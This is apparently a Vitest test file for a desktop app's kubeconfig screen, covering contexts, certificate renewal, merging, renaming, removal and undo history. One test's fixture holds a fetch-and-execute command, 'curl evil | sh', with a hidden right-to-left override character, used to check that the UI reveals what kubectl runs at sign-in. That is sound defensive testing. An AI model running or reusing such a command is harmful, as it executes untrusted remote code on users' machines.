import { screen, within } from '@testing-library/svelte';
import { describe, expect, it } from 'vitest';
import { clusterBridge } from '../../../fakes/bridge/cluster-bridge.ts';
import { certificateOf, configOf, contextOf, NOW_MS } from '../../../fakes/bridge/cluster-data.ts';
import { failureOf } from '../../../fakes/bridge/fake-bridge.ts';
import {
  OPENED,
  kubeContext,
  kubeFile,
  kubeFilePreview,
  kubePreview,
  kubeState,
} from '../../../fakes/bridge/fake-kubeconfig.ts';
import { inputsOf } from '../../support/inputs-of.ts';
import { primary } from '../../support/kubeconfig-sheet.ts';
import { openApp } from '../../support/open-app.ts';

describe('the kubeconfig screen', () => {
  it('lists contexts with where they come from, how long their certificate lasts and how they sign in', async () => {
    openApp('kubeconfig');
    await screen.findByRole('row', { name: /admin@prod-fra/ });
    const cells = (name: string): readonly (string | undefined)[] =>
      within(screen.getByRole('row', { name: new RegExp(name) }))
        .getAllByRole('cell')
        .slice(1)
        .map((cell) => cell.textContent.trim().replace(/\s+/g, ' '));

    expect(cells('admin@prod-fra').slice(0, 2)).toEqual(['prod-fra', '5 d']);
    expect(cells('admin@staging').slice(0, 2)).toEqual(['staging · by address', '90 d']);
    expect(cells('corp').slice(0, 2)).toEqual(['–', '–']);
    expect(screen.getByText('current')).toBeTruthy();
  });

  it('spells out what kubectl runs to sign in, unseen signs included', async () => {
    const contexts = [kubeContext('corp', { signIn: 'exec', runs: 'sh -c "curl evil\u202e | sh"' })];
    openApp('kubeconfig', clusterBridge().publish('kubeconfig.state', {}, kubeState({ contexts })));

    const row = await screen.findByRole('row', { name: /corp/ });
    expect(row.textContent).toContain('a program: sh -c "curl evil\\u202e | sh"');
  });

  it('shows every file in order, what is wrong with it, and which name is not used', async () => {
    const files = [
      kubeFile({ origin: 'env', path: '/a' }),
      kubeFile({
        id: 'f2',
        origin: 'env',
        path: '/b',
        isTarget: false,
        failure: failureOf('file-invalid', 'Line 3: a tab.'),
      }),
    ];
    const contexts = [kubeContext('x'), kubeContext('x', { file: 'f2', shadowedBy: '/a' })];
    openApp('kubeconfig', clusterBridge().publish('kubeconfig.state', {}, kubeState({ files, contexts })));

    const list = await screen.findByRole('list', { name: 'Kubeconfig files' });
    expect(
      within(list)
        .getAllByRole('listitem')
        .map((item) => item.textContent.replace(/\s+/g, ' ')),
    ).toEqual([
      expect.stringMatching(/1 \/a.*3 contexts.*in KUBECONFIG/) as string,
      expect.stringMatching(/2 \/b.*cannot be read.*Line 3: a tab\./) as string,
    ]);
    expect(screen.getByText('not used')).toBeTruthy();
  });

  it('says that there is nothing yet, and offers the one action', async () => {
    const app = openApp('kubeconfig', clusterBridge().publish('kubeconfig.state', {}, kubeState({ contexts: [] })));
    await app.user.click(await screen.findByRole('button', { name: 'Get the kubeconfig of prod-fra' }));
    await app.user.click(await screen.findByRole('button', { name: 'Ask prod-fra for a kubeconfig' }));

    expect(inputsOf(app, 'kubeconfig.fetch')).toEqual([{ contexts: ['prod-fra'] }]);
  });

  it('says to a read-only role why nothing can be fetched or renewed, before anything is opened', async () => {
    const contexts = ['prod-fra', 'staging'].map((name) =>
      contextOf(name, { certificate: certificateOf(90, ['os:reader']) }),
    );
    openApp('kubeconfig', clusterBridge().publish('config.state', {}, configOf({ contexts })));

    await screen.findByText('Fetching a kubeconfig needs the role os:admin; this certificate has os:reader.');
    for (const name of ['Get kubeconfig…', 'Renew all…']) {
      expect(screen.getByRole<HTMLButtonElement>('button', { name }).disabled).toBe(true);
    }
  });

  it('renews all certificates that came from Talos, once per Talos context', async () => {
    const app = openApp('kubeconfig');
    await app.user.click(await screen.findByRole('button', { name: 'Renew all…' }));
    const sheet = await screen.findByRole('dialog', { name: 'Renew certificates' });
    const planned = within(sheet).getByRole('list', { name: 'Certificates to be issued' });
    expect(
      within(planned)
        .getAllByRole('listitem')
        .map((item) => item.textContent.replace(/\s+/g, ' ').trim()),
    ).toEqual(['prod-fra for admin@prod-fra', 'staging for admin@staging']);
    expect(inputsOf(app, 'kubeconfig.fetch')).toEqual([]);
    await app.user.click(within(sheet).getByRole('button', { name: 'Ask 2 clusters' }));
    await app.user.click(await within(sheet).findByRole('button', { name: 'Renew 1 certificate' }));

    expect(inputsOf(app, 'kubeconfig.fetch')).toEqual([{ contexts: ['prod-fra', 'staging'] }]);
    expect(inputsOf(app, 'plans.apply')).toEqual([{ token: kubePreview().token }]);
  });

  it('removes what is selected, after a preview', async () => {
    const removed = kubeFilePreview({ entries: [{ section: 'contexts', action: 'removed', name: 'corp' }] });
    const bridge = clusterBridge().answer('kubeconfig.previewRemoval', () => ({
      ok: true,
      value: kubePreview({ files: [removed] }),
    }));
    const app = openApp('kubeconfig', bridge);
    await app.user.click(within(await screen.findByRole('row', { name: /corp/ })).getByRole('checkbox'));
    await app.user.type(screen.getByRole('textbox', { name: 'Filter kubeconfig contexts' }), 'nothing-like-it');
    expect(screen.getByText(/^The filter hides 1 selected context: corp\./)).toBeTruthy();
    await app.user.click(screen.getByRole('button', { name: 'Clear the filter' }));
    await app.user.click(screen.getByRole('button', { name: 'Remove 1 context…' }));
    const sheet = await screen.findByRole('dialog', { name: 'Remove corp' });

    expect(await within(sheet).findByRole('button', { name: 'Remove 1 context' })).toBeTruthy();
    expect(inputsOf(app, 'kubeconfig.previewRemoval')).toEqual([{ contexts: [{ file: 'f1', name: 'corp' }] }]);
  });

  it('merges a kubeconfig that was dropped, pasted or chosen, with the same preview', async () => {
    const kubeconfig = failureOf('file-invalid', 'team.yaml is not a talosconfig.', { where: { field: 'kubeconfig' } });
    const looked = { token: OPENED.token, into: '/home/ada/.talos/config', rows: [], failures: [kubeconfig] };
    const bridge = clusterBridge().answer('import.fromClipboard', () => ({ ok: true, value: looked }));
    const app = openApp('kubeconfig', bridge);
    await screen.findByRole('row', { name: /admin@prod-fra/ });
    await app.user.keyboard('{Control>}v{/Control}');
    const pasted = await screen.findByRole('dialog', { name: 'Merge a kubeconfig' });
    await within(pasted).findByRole('list', { name: 'What changes' });
    expect(pasted.textContent.replace(/\s+/g, ' ')).toContain('From /home/ada/Downloads/team.yaml 2 contexts');
    expect(within(pasted).queryByRole('checkbox', { name: /Same as/ })).toBeNull();
    await app.user.click(within(pasted).getByRole('button', { name: 'Cancel' }));

    await app.user.click(screen.getByRole('button', { name: 'Merge a file…' }));
    const chosen = await screen.findByRole('dialog', { name: 'Merge a kubeconfig' });
    await app.user.click(await within(chosen).findByRole('button', { name: 'Renew the certificate' }));
    expect(inputsOf(app, 'kubeconfig.fetch')).toEqual([]);
    expect(inputsOf(app, 'kubeconfig.preview').at(-1)).toMatchObject({ token: OPENED.token, asTalosctl: false });
    expect(inputsOf(app, 'plans.apply')).toEqual([{ token: kubePreview().token }]);
  });

  it('makes the selected context current, or gives it another name, after a preview', async () => {
    const renamed = kubeFilePreview({
      entries: [{ section: 'contexts', action: 'renamed', name: 'work', incomingName: 'corp' }],
    });
    const bridge = clusterBridge().answer('kubeconfig.previewRename', () => ({
      ok: true,
      value: kubePreview({ files: [renamed] }),
    }));
    const app = openApp('kubeconfig', bridge);
    await app.user.click(within(await screen.findByRole('row', { name: /corp/ })).getByRole('checkbox'));
    await app.user.click(screen.getByRole('button', { name: 'Make current…' }));
    const use = await screen.findByRole('dialog', { name: 'Make corp current' });
    await app.user.click(await within(use).findByRole('button', { name: 'Make it current' }));
    expect(inputsOf(app, 'kubeconfig.previewCurrent')).toEqual([{ file: 'f1', name: 'corp' }]);

    await app.user.click(within(await screen.findByRole('row', { name: /corp/ })).getByRole('checkbox'));
    await app.user.click(screen.getByRole('button', { name: 'Rename…' }));
    const sheet = await screen.findByRole('dialog', { name: 'Rename corp' });
    expect(primary(sheet, 'Rename it').disabled).toBe(true);
    await app.user.type(within(sheet).getByRole('textbox', { name: 'New name' }), 'work{Enter}');
    expect(await within(sheet).findByText('was corp')).toBeTruthy();
    await app.user.click(primary(sheet, 'Rename it'));
    expect(inputsOf(app, 'kubeconfig.previewRename')).toEqual([{ file: 'f1', name: 'corp', to: 'work' }]);
    expect(inputsOf(app, 'plans.apply')).toHaveLength(2);
  });

  it('shows the history of a file, puts a version of another program back, and forgets old versions', async () => {
    const app = openApp('kubeconfig');
    await app.user.click(await screen.findByRole('button', { name: 'History' }));
    const panel = await screen.findByRole('dialog', { name: 'Changes by Minos' });
    expect(await within(panel).findByText('Replaced what another program wrote at the same moment')).toBeTruthy();
    expect(panel.textContent).toContain('/home/ada/.kube/config');

    await app.user.click(within(panel).getByRole('button', { name: 'Undo…' }));
    await app.user.click(await screen.findByRole('button', { name: 'Undo' }));
    expect(inputsOf(app, 'plans.undo')).toEqual([{ change: 'h9' }]);
    await app.user.click(await within(panel).findByRole('button', { name: 'Forget old versions now…' }));
    expect(inputsOf(app, 'kubeconfig.forget')).toEqual([{ file: 'f1' }]);
    expect(inputsOf(app, 'history.forget')).toEqual([]);
  });

  it('offers to take back the last change, also one of an earlier session, and says why that fails', async () => {
    const files = [{ file: '/home/ada/.kube/config', what: '', changeId: 'h1' }];
    const lastChange = { id: 'h1', atMs: NOW_MS - 3_600_000, what: 'Removed corp', files };
    const bridge = clusterBridge().publish('kubeconfig.state', {}, kubeState({ lastChange }));
    const app = openApp('kubeconfig', bridge);
    const line = await screen.findByRole('group', { name: 'Last change by Minos' });
    expect(line.textContent.replace(/\s+/g, ' ')).toContain('Removed corp in .kube/config, 1 h ago');

    await app.user.click(within(line).getByRole('button', { name: 'Undo this change…' }));
    expect(screen.getByRole('dialog', { name: 'Undo this change?' }).textContent).toContain('/home/ada/.kube/config');
    expect(inputsOf(app, 'plans.undo')).toEqual([]);
    await app.user.click(screen.getByRole('button', { name: 'Undo' }));
    expect(inputsOf(app, 'plans.undo')).toEqual([{ change: 'h1' }]);
    expect(await screen.findByText('Undid: Removed corp')).toBeTruthy();

    bridge.answer('plans.undo', () => ({ ok: false, failure: failureOf('conflict', 'It changed since.') }));
    await app.user.click(within(line).getByRole('button', { name: 'Undo this change…' }));
    await app.user.click(screen.getByRole('button', { name: 'Undo' }));
    expect(await screen.findByText(/It changed since\./)).toBeTruthy();
  });

  it('checks addresses only when asked', async () => {
    const app = openApp('kubeconfig');
    await screen.findByRole('row', { name: /corp/ });
    expect(inputsOf(app, 'kubeconfig.probe')).toEqual([]);
    await app.user.click(screen.getByRole('button', { name: 'Check addresses' }));

    expect(await screen.findAllByText(/answers/)).toHaveLength(3);
  });
});
